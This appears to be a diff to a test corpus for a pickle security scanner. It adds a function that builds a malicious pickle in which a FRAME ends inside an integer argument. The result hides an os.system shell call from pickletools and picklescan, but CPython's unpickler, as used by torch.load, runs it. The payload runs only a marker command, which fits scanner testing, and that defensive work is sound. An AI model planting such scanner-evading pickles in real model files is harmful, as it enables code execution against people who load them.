@@ -328,3 +328,14 @@ def memo_across_pickles(marker: Path) -> bytes:
     first = proto(4) + unicode("os") + MEMOIZE + unicode("system") + MEMOIZE + POP + POP + b"N" + STOP
     second = proto(4) + binget(0) + binget(1) + STACK_GLOBAL + unicode(shell(marker)) + TUPLE1 + REDUCE + STOP
     return first + second
+
+
+def frame_confusion(marker: Path) -> bytes:
+    """A FRAME that ends inside a BININT's argument. CPython's C unpickler reading from a file
+    object (torch.load reads a zip's data.pkl through BytesIO) drops the rest of the frame and
+    reads the int from the bytes after it; pickletools and picklescan read straight on. The
+    linear view is a harmless SHORT_BINBYTES swallowing the payload; CPython runs the payload."""
+    evil = POP + unicode("os") + unicode("system") + STACK_GLOBAL + unicode(shell(marker)) + TUPLE1 + REDUCE + STOP
+    assert len(evil) < 256
+    return (proto(4) + b"\x95" + struct.pack("<Q", 3) + b"JAB" + b"\x00\x00" + b"C" + bytes([len(evil)]) + evil
+            + POP + POP + b"N" + STOP)
